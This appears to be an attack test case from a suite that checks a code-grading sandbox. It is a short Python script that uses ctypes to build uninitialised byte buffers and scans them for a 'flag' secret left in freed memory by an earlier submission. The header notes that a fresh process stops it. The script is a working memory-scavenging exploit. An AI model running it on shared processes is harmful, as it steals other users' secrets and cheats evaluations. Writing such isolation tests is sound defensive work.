# /// attack
# tries = "reads memory that was freed before, for what the submission before it left there"
# wins = "flag"
# stopped_by = ["fresh process", "separate process"]
# proof = {without = ["fresh"]}
# ///
import ctypes
import re


def attack():
    make = ctypes.pythonapi.PyBytes_FromStringAndSize  # with NULL: bytes as they are found
    make.restype, make.argtypes = ctypes.py_object, (ctypes.c_void_p, ctypes.c_ssize_t)
    found = [make(None, size) for size in range(1, 480) for _ in range(500)]
    raise RuntimeError(re.findall(b"flag-[0-9a-f]{24}", b" ".join(found)))
